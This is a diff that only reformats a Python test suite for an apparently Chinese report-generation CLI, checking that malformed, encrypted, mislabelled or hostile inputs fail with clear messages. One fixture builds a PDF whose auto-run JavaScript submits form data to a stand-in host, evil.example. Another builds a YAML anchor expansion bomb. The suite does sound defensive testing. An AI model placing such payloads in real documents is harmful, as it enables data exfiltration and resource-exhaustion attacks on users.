@@ -6,6 +6,7 @@ clerks edit them.
 Each case runs the real command and must end with a Chinese message naming the file (and the place, where there is
 one), the documented exit code, no traceback, no 内部错误, no 「None」, and nothing half-written left behind.
 """
+
 from __future__ import annotations
 
 import base64
@@ -90,10 +91,12 @@ def pdf_bytes(javascript: bool = False, password: str = "") -> bytes:
     if javascript:
         from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 
-        writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
-            NameObject("/S"): NameObject("/JavaScript"),
-            NameObject("/JS"): TextStringObject("app.alert('hi'); this.submitForm('http://evil.example/');"),
-        })
+        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
+            {
+                NameObject("/S"): NameObject("/JavaScript"),
+                NameObject("/JS"): TextStringObject("app.alert('hi'); this.submitForm('http://evil.example/');"),
+            }
+        )
     if password:
         writer.encrypt(password)
     out = io.BytesIO()
@@ -146,13 +149,17 @@ def merge_name(sheet, layout):
 
 
 def nested_yaml(depth: int) -> str:
-    return data_text() + "\nextra:\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(depth)) + "  " * depth + "  v\n"
+    return (
+        data_text() + "\nextra:\n" + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(depth)) + "  " * depth + "  v\n"
+    )
 
 
 def anchor_bomb() -> str:
     lines = ['a0: &a0 ["笑", "笑", "笑", "笑", "笑", "笑", "笑", "笑", "笑"]']
-    lines += [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]"
-              for i in range(1, 10)]
+    lines += [
+        f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}, *a{i - 1}]"
+        for i in range(1, 10)
+    ]
     return data_text() + "\n" + "\n".join(lines) + "\n"
 
 
@@ -202,114 +209,264 @@ def _import(name: str, data) -> Callable[[Path], list]:
 CASES: dict[str, Case] = {
     # WPS and old Office, WeChat's renamed copies
     "wps-writer-wps": case(_import("报告.wps", _cfb(["WordDocument"])), 2, "报告.wps", "另存为"),
-    "wechat-doc-renamed-docx": case(_import("年度报告(1).docx", _cfb(["WordDocument"])), 2, "年度报告(1).docx", "旧版 Word"),
-    "wps-et-roster-to-batch": case(lambda tmp: ["batch", write(tmp / "汇总表.et", _cfb(["Workbook"])), "-o", tmp / "out"],
-                                   2, "汇总表.et", "另存为"),
+    "wechat-doc-renamed-docx": case(
+        _import("年度报告(1).docx", _cfb(["WordDocument"])), 2, "年度报告(1).docx", "旧版 Word"
+    ),
+    "wps-et-roster-to-batch": case(
+        lambda tmp: ["batch", write(tmp / "汇总表.et", _cfb(["Workbook"])), "-o", tmp / "out"], 2, "汇总表.et", "另存为"
+    ),
     "xls-form-renamed-xlsx": case(_check("填报表(2).xlsx", _cfb(["Workbook"])), 2, "填报表(2).xlsx", "97-2003"),
     "xlsx-renamed-docx": case(_import("报告.docx", form_bytes), 2, "报告.docx"),
-    "docx-renamed-xlsx": case(lambda tmp: ["check", write(tmp / "填报表.xlsx", docx_bytes())], 2, "填报表.xlsx", "Word"),
+    "docx-renamed-xlsx": case(
+        lambda tmp: ["check", write(tmp / "填报表.xlsx", docx_bytes())], 2, "填报表.xlsx", "Word"
+    ),
     # e-mail
     "eml-to-check": case(_check("年度报告.eml", eml(b"PK\x03\x04", "报告.docx")), 2, "年度报告.eml", "邮件"),
-    "eml-to-import": case(_import("年度报告.eml", lambda tmp: eml(docx_bytes(), "报告.docx")), 2, "年度报告.eml", "附件"),
-    "eml-renamed-docx": case(_import("年度报告.docx", lambda tmp: eml(docx_bytes(), "报告.docx")), 2, "年度报告.docx",
-                             "邮件"),
+    "eml-to-import": case(
+        _import("年度报告.eml", lambda tmp: eml(docx_bytes(), "报告.docx")), 2, "年度报告.eml", "附件"
+    ),
+    "eml-renamed-docx": case(
+        _import("年度报告.docx", lambda tmp: eml(docx_bytes(), "报告.docx")), 2, "年度报告.docx", "邮件"
+    ),
     # encodings and line ends
     "gbk-yaml": case(_check("数据.yaml", data_text(), "gbk"), 2, "数据.yaml", "GBK"),
     "gb18030-yaml": case(_check("数据.yaml", data_text() + "\n# 𠀀\n", "gb18030"), 2, "数据.yaml", "GBK"),
     "utf16-yaml": case(_check("数据.yaml", data_text(), "utf-16"), 2, "数据.yaml", "UTF-16"),
     "utf16-json": case(_check("数据.json", json_text(), "utf-16"), 2, "数据.json", "UTF-16"),
     "gbk-csv": case(_check("数据.csv", "单位,新收申请\n白沙镇,3\n", "gbk"), 2, "数据.csv", "不支持"),
-    "gbk-txt-report": case(_import("报告.txt", "青石街道办事处2025年政府信息公开工作年度报告\n".encode("gbk")), 2, "报告.txt"),
-    "utf16-txt-report": case(_import("报告.txt", "青石街道办事处2025年政府信息公开工作年度报告\n".encode("utf-16")), 2,
-                             "报告.txt"),
-    "cr-only-yaml-broken": case(_check("数据.yaml", data_text().replace("\n", "\r") + "\rbroken: [\r"), 2, "数据.yaml",
-                                "第 53 行", "没有配对"),
+    "gbk-txt-report": case(
+        _import("报告.txt", "青石街道办事处2025年政府信息公开工作年度报告\n".encode("gbk")), 2, "报告.txt"
+    ),
+    "utf16-txt-report": case(
+        _import("报告.txt", "青石街道办事处2025年政府信息公开工作年度报告\n".encode("utf-16")), 2, "报告.txt"
+    ),
+    "cr-only-yaml-broken": case(
+        _check("数据.yaml", data_text().replace("\n", "\r") + "\rbroken: [\r"), 2, "数据.yaml", "第 53 行", "没有配对"
+    ),
     "cr-only-yaml": case(_check("数据.yaml", data_text().replace("\n", "\r")), 0, "数据.yaml", "校验通过"),
-    "crlf-bom-yaml": case(_check("数据.yaml", "\ufeff" + data_text().replace("\n", "\r\n")), 0, "数据.yaml", "校验通过"),
+    "crlf-bom-yaml": case(
+        _check("数据.yaml", "\ufeff" + data_text().replace("\n", "\r\n")), 0, "数据.yaml", "校验通过"
+    ),
     "bom-json": case(_check("数据.json", "\ufeff" + json_text()), 0, "数据.json", "校验通过"),
-    "eml-as-previous": case(lambda tmp: ["form", "-o", tmp / "表.xlsx", "--previous",
-                                         write(tmp / "上年报告.eml", eml(docx_bytes(), "上年报告.docx"))], 2, "上年报告.eml",
-                            "「上年报告.docx」"),
-    "utf16-yaml-convert": case(lambda tmp: ["convert", write(tmp / "数据.yaml", data_text(), "utf-16"), "-o",
-                                            tmp / "表.xlsx"], 2, "数据.yaml", "UTF-16"),
-    "encrypted-form-convert": case(lambda tmp: ["convert", write(tmp / "表.xlsx", _cfb(["EncryptionInfo",
-                                                "EncryptedPackage"])), "-o", tmp / "数据.yaml"], 2, "表.xlsx", "密码"),
+    "eml-as-previous": case(
+        lambda tmp: [
+            "form",
+            "-o",
+            tmp / "表.xlsx",
+            "--previous",
+            write(tmp / "上年报告.eml", eml(docx_bytes(), "上年报告.docx")),
+        ],
+        2,
+        "上年报告.eml",
+        "「上年报告.docx」",
+    ),
+    "utf16-yaml-convert": case(
+        lambda tmp: ["convert", write(tmp / "数据.yaml", data_text(), "utf-16"), "-o", tmp / "表.xlsx"],
+        2,
+        "数据.yaml",
+        "UTF-16",
+    ),
+    "encrypted-form-convert": case(
+        lambda tmp: [
+            "convert",
+            write(tmp / "表.xlsx", _cfb(["EncryptionInfo", "EncryptedPackage"])),
+            "-o",
+            tmp / "数据.yaml",
+        ],
+        2,
+        "表.xlsx",
+        "密码",
+    ),
     # empty files
     "empty-yaml": case(_check("空.yaml", b""), 2, "空.yaml", "空"),
     "empty-docx-import": case(_import("空.docx", b""), 2, "空.docx", "空"),
     "empty-pdf-import": case(_import("空.pdf", b""), 2, "空.pdf", "空"),
-    "empty-template": case(lambda tmp: ["render", BUSY, "-o", tmp / "out", "--to", "docx", "--template",
-                                        write(tmp / "模板.docx", b"")], 2, "模板.docx", "空"),
-    "empty-roster-batch": case(lambda tmp: ["batch", write(tmp / "汇总表.xlsx", b""), "-o", tmp / "out"], 2, "汇总表.xlsx",
-                               "空"),
-    "empty-previous": case(lambda tmp: ["check", BUSY, "--previous", write(tmp / "上年.yaml", b"")], 2, "上年.yaml", "空"),
+    "empty-template": case(
+        lambda tmp: ["render", BUSY, "-o", tmp / "out", "--to", "docx", "--template", write(tmp / "模板.docx", b"")],
+        2,
+        "模板.docx",
+        "空",
+    ),
+    "empty-roster-batch": case(
+        lambda tmp: ["batch", write(tmp / "汇总表.xlsx", b""), "-o", tmp / "out"], 2, "汇总表.xlsx", "空"
+    ),
+    "empty-previous": case(
+        lambda tmp: ["check", BUSY, "--previous", write(tmp / "上年.yaml", b"")], 2, "上年.yaml", "空"
+    ),
     "empty-answers": case(lambda tmp: ["wizard", "--answers", write(tmp / "上年.yaml", b"")], 2, "上年.yaml", "空"),
-    "empty-json-convert": case(lambda tmp: ["convert", write(tmp / "空.json", b"  \n"), "-o", tmp / "表.xlsx"], 2,
-                               "空.json", "空"),
+    "empty-json-convert": case(
+        lambda tmp: ["convert", write(tmp / "空.json", b"  \n"), "-o", tmp / "表.xlsx"], 2, "空.json", "空"
+    ),
     # truncated files
     "truncated-docx": case(_import("报告.docx", lambda tmp: docx_bytes()[:3000]), 2, "报告.docx", "损坏"),
     "truncated-pdf": case(_import("报告.pdf", lambda tmp: pdf_bytes()[:300]), 2, "报告.pdf"),
-    "truncated-roster": case(lambda tmp: ["batch", write(tmp / "汇总表.xlsx", roster_bytes(tmp)[:4000]), "-o", tmp / "o"],
-                             2, "汇总表.xlsx", "损坏"),
-    "truncated-template": case(lambda tmp: ["render", BUSY, "-o", tmp / "out", "--to", "docx", "--template",
-                                            write(tmp / "模板.docx", docx_bytes()[:5000])], 2, "模板.docx"),
+    "truncated-roster": case(
+        lambda tmp: ["batch", write(tmp / "汇总表.xlsx", roster_bytes(tmp)[:4000]), "-o", tmp / "o"],
+        2,
+        "汇总表.xlsx",
+        "损坏",
+    ),
+    "truncated-template": case(
+        lambda tmp: [
+            "render",
+            BUSY,
+            "-o",
+            tmp / "out",
+            "--to",
+            "docx",
+            "--template",
+            write(tmp / "模板.docx", docx_bytes()[:5000]),
+        ],
+        2,
+        "模板.docx",
+    ),
     # locked files
     "encrypted-docx": case(_import("报告.docx", _cfb(["EncryptionInfo", "EncryptedPackage"])), 2, "报告.docx", "密码"),
     "encrypted-pdf": case(_import("报告.pdf", lambda tmp: pdf_bytes(password="123")), 2, "报告.pdf", "密码"),
-    "encrypted-roster": case(lambda tmp: ["batch", write(tmp / "汇总表.xlsx", _cfb(["EncryptionInfo", "EncryptedPackage"])),
-                                          "-o", tmp / "out"], 2, "汇总表.xlsx", "密码"),
-    "encrypted-template": case(lambda tmp: ["render", BUSY, "-o", tmp / "out", "--to", "docx", "--template",
-                                            write(tmp / "模板.docx", _cfb(["EncryptionInfo", "EncryptedPackage"]))],
-                               2, "模板.docx", "密码"),
+    "encrypted-roster": case(
+        lambda tmp: [
+            "batch",
+            write(tmp / "汇总表.xlsx", _cfb(["EncryptionInfo", "EncryptedPackage"])),
+            "-o",
+            tmp / "out",
+        ],
+        2,
+        "汇总表.xlsx",
+        "密码",
+    ),
+    "encrypted-template": case(
+        lambda tmp: [
+            "render",
+            BUSY,
+            "-o",
+            tmp / "out",
+            "--to",
+            "docx",
+            "--template",
+            write(tmp / "模板.docx", _cfb(["EncryptionInfo", "EncryptedPackage"])),
+        ],
+        2,
+        "模板.docx",
+        "密码",
+    ),
     # active content
     "pdf-with-javascript": case(_import("报告.pdf", lambda tmp: pdf_bytes(javascript=True)), 2, "报告.pdf"),
-    "form-with-external-link": case(lambda tmp: ["check", write(tmp / "填报表.xlsx", with_external_link(form_bytes(tmp)))],
-                                    0, "填报表.xlsx"),
+    "form-with-external-link": case(
+        lambda tmp: ["check", write(tmp / "填报表.xlsx", with_external_link(form_bytes(tmp)))], 0, "填报表.xlsx"
+    ),
     # links and folders where a file belongs
-    "dangling-symlink": case(lambda tmp: ["check", _link(tmp / "数据.yaml", tmp / "已删除.yaml")], 2, "数据.yaml", "已删除.yaml",
-                             "不存在"),
+    "dangling-symlink": case(
+        lambda tmp: ["check", _link(tmp / "数据.yaml", tmp / "已删除.yaml")], 2, "数据.yaml", "已删除.yaml", "不存在"
+    ),
     "symlink-loop": case(lambda tmp: ["check", _loop(tmp / "数据.yaml")], 2, "数据.yaml"),
-    "folder-to-import": case(lambda tmp: ["import", _folder(tmp / "报告.docx"), "-o", tmp / "x.yaml"], 2, "报告.docx",
-                             "文件夹"),
-    "folder-to-convert": case(lambda tmp: ["convert", _folder(tmp / "数据.yaml"), "-o", tmp / "x.xlsx"], 2, "数据.yaml",
-                              "文件夹"),
-    "folder-as-template": case(lambda tmp: ["render", BUSY, "-o", tmp / "out", "--to", "docx", "--template",
-                                            _folder(tmp / "模板.docx")], 2, "模板.docx", "文件夹"),
-    "folder-as-expected": case(lambda tmp: ["batch", BUSY, "-o", tmp / "out", "--expected", _folder(tmp / "名单.xlsx")],
-                               2, "名单.xlsx", "文件夹"),
-    "folder-as-previous": case(lambda tmp: ["form", "-o", tmp / "表.xlsx", "--previous", _folder(tmp / "上年.yaml")], 2,
-                               "上年.yaml", "文件夹"),
-    "folder-as-answers": case(lambda tmp: ["wizard", "--answers", _folder(tmp / "上年.yaml")], 2, "上年.yaml", "文件夹"),
-    "folder-as-scorecard": case(lambda tmp: ["batch", BUSY, "-o", tmp / "out", "--scorecard", _folder(tmp / "考评.yaml")],
-                                2, "考评.yaml", "文件夹"),
+    "folder-to-import": case(
+        lambda tmp: ["import", _folder(tmp / "报告.docx"), "-o", tmp / "x.yaml"], 2, "报告.docx", "文件夹"
+    ),
+    "folder-to-convert": case(
+        lambda tmp: ["convert", _folder(tmp / "数据.yaml"), "-o", tmp / "x.xlsx"], 2, "数据.yaml", "文件夹"
+    ),
+    "folder-as-template": case(
+        lambda tmp: ["render", BUSY, "-o", tmp / "out", "--to", "docx", "--template", _folder(tmp / "模板.docx")],
+        2,
+        "模板.docx",
+        "文件夹",
+    ),
+    "folder-as-expected": case(
+        lambda tmp: ["batch", BUSY, "-o", tmp / "out", "--expected", _folder(tmp / "名单.xlsx")],
+        2,
+        "名单.xlsx",
+        "文件夹",
+    ),
+    "folder-as-previous": case(
+        lambda tmp: ["form", "-o", tmp / "表.xlsx", "--previous", _folder(tmp / "上年.yaml")], 2, "上年.yaml", "文件夹"
+    ),
+    "folder-as-answers": case(
+        lambda tmp: ["wizard", "--answers", _folder(tmp / "上年.yaml")], 2, "上年.yaml", "文件夹"
+    ),
+    "folder-as-scorecard": case(
+        lambda tmp: ["batch", BUSY, "-o", tmp / "out", "--scorecard", _folder(tmp / "考评.yaml")],
+        2,
+        "考评.yaml",
+        "文件夹",
+    ),
     "output-is-a-file": case(lambda tmp: ["batch", BUSY, "-o", write(tmp / "输出", b"x")], 2, "输出"),
     # bombs and slips in data files
     "deep-yaml-mapping": case(_check("数据.yaml", nested_yaml(80)), 2, "数据.yaml", "嵌套"),
     "yaml-anchor-bomb": case(_check("数据.yaml", anchor_bomb()), 2, "数据.yaml", "第"),
-    "yaml-tab-indent": case(_check("数据.yaml", data_text().replace("\n  name:", "\n\tname:", 1)), 2, "数据.yaml", "第"),
+    "yaml-tab-indent": case(
+        _check("数据.yaml", data_text().replace("\n  name:", "\n\tname:", 1)), 2, "数据.yaml", "第"
+    ),
     "json-duplicate-key": case(_check("数据.json", duplicate_json_key()), 2, "数据.json", "name"),
     "json-nan-infinity": case(_check("数据.json", nan_json()), 1, "数据.json"),
     "json-trailing-comma": case(_check("数据.json", json_text()[:-2] + ",\n}"), 2, "数据.json", "第"),
     "json-comments": case(_check("数据.json", "// 青石街道\n" + json_text()), 2, "数据.json", "第 1 行"),
-    "huge-yaml-string": case(_check("数据.yaml", data_text().replace("problems:", "problems: " + "长" * 1_000_000 + "\n  x:", 1)),
-                             2, "数据.yaml"),
-    "yaml-date-serial": case(_check("数据.yaml", data_text().replace("publication_date: ", "publication_date: 46042 #", 1)),
-                             2, "数据.yaml", "日期序号，对应 2026-01-20"),
+    "huge-yaml-string": case(
+        _check("数据.yaml", data_text().replace("problems:", "problems: " + "长" * 1_000_000 + "\n  x:", 1)),
+        2,
+        "数据.yaml",
+    ),
+    "yaml-date-serial": case(
+        _check("数据.yaml", data_text().replace("publication_date: ", "publication_date: 46042 #", 1)),
+        2,
+        "数据.yaml",
+        "日期序号，对应 2026-01-20",
+    ),
     # rosters as clerks edit them
-    "roster-merged-name": case(lambda tmp: ["batch", write(tmp / "汇总表.xlsx", roster_bytes(tmp, merge_name)),
-                                            "-o", tmp / "out", "--to", "html"], 1, "合并"),
-    "roster-huge-number-cell": case(lambda tmp: ["batch", write(tmp / "汇总表.xlsx", roster_bytes(
-        tmp, set_cells({"active.rules.issued": "9" * 30_000}))), "-o", tmp / "out", "--to", "html"], 1, "单元格"),
-    "roster-to-convert": case(lambda tmp: ["convert", write(tmp / "汇总表.xlsx", roster_bytes(tmp)), "-o", tmp / "x.yaml"],
-                              2, "汇总表.xlsx", "batch"),
+    "roster-merged-name": case(
+        lambda tmp: [
+            "batch",
+            write(tmp / "汇总表.xlsx", roster_bytes(tmp, merge_name)),
+            "-o",
+            tmp / "out",
+            "--to",
+            "html",
+        ],
+        1,
+        "合并",
+    ),
+    "roster-huge-number-cell": case(
+        lambda tmp: [
+            "batch",
+            write(tmp / "汇总表.xlsx", roster_bytes(tmp, set_cells({"active.rules.issued": "9" * 30_000}))),
+            "-o",
+            tmp / "out",
+            "--to",
+            "html",
+        ],
+        1,
+        "单元格",
+    ),
+    "roster-to-convert": case(
+        lambda tmp: ["convert", write(tmp / "汇总表.xlsx", roster_bytes(tmp)), "-o", tmp / "x.yaml"],
+        2,
+        "汇总表.xlsx",
+        "batch",
+    ),
     "form-to-import": case(_import("填报表.xlsx", form_bytes), 2, "填报表.xlsx"),
     # outputs that would destroy an input, options out of range
-    "import-over-its-input": case(lambda tmp: ["import", report_docx(tmp), "-o", tmp / "报告.docx", "--force"], 2,
-                                  "就是输入文件", "加 --force 也不会"),
-    "convert-over-its-input": case(lambda tmp: ["convert", write(tmp / "数据.yaml", data_text()), "-o", tmp / "数据.yaml",
-                                                "--force"], 2, "就是输入文件"),
-    "form-over-last-years-form": case(lambda tmp: ["form", "--previous", write(tmp / "上年.xlsx", form_bytes(tmp)), "-o",
-                                                   tmp / "上年.xlsx", "--force"], 2, "就是输入文件"),
+    "import-over-its-input": case(
+        lambda tmp: ["import", report_docx(tmp), "-o", tmp / "报告.docx", "--force"],
+        2,
+        "就是输入文件",
+        "加 --force 也不会",
+    ),
+    "convert-over-its-input": case(
+        lambda tmp: ["convert", write(tmp / "数据.yaml", data_text()), "-o", tmp / "数据.yaml", "--force"],
+        2,
+        "就是输入文件",
+    ),
+    "form-over-last-years-form": case(
+        lambda tmp: [
+            "form",
+            "--previous",
+            write(tmp / "上年.xlsx", form_bytes(tmp)),
+            "-o",
+            tmp / "上年.xlsx",
+            "--force",
+        ],
+        2,
+        "就是输入文件",
+    ),
     "negative-overview-length": case(lambda tmp: ["check", BUSY, "--overview-length", "-5"], 2, "「-5」"),
 }
 
